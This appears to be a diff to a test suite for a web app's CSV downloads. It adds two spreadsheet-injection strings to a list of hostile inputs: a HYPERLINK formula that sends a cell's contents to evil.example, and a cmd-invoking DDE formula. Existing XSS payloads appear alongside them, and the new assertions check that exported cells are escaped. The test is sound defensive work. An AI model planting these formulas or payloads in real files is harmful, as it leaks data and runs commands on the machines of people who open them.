@@ -43,6 +43,8 @@ HOSTILE = [
     "<form><button formaction=javascript:alert(36)>x</button></form> {: onclick=alert(37) }",
     "Costs $5 to $10 and $\\foo{$ (mathtext in a chart label)",
     "Control characters \x00 \x0b \x1b \ufffe in a note (XML cannot carry them)",
+    '=HYPERLINK("http://evil.example/?"&A1,"click") a spreadsheet formula',
+    "@SUM(1+1)*cmd|' /C calc'!A0 another formula",
 ]
 
 
@@ -183,6 +185,10 @@ def test_downloads_round_trip_hostile_text(app, client, db, hostile):
     assert [r["label"] for r in rows] == [t["label"] for t in data["themes"]]
     assert data["themes"][1]["label"] == HOSTILE[16] + " " + HOSTILE[5]  # the organiser's rename, as typed
     assert any("\n" in q for r in rows for q in [r["summary"]])  # a multi-line summary stays in its cell
+    # No cell starts like a formula when the CSV is opened in a spreadsheet.
+    cells = [c for r in rows for k, c in r.items() if k != "size"]
+    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@")]
+    assert any(c.startswith("'=HYPERLINK(") for c in cells)
 
 
 def test_an_organiser_draft_is_sanitised_too(app, client, db, hostile):
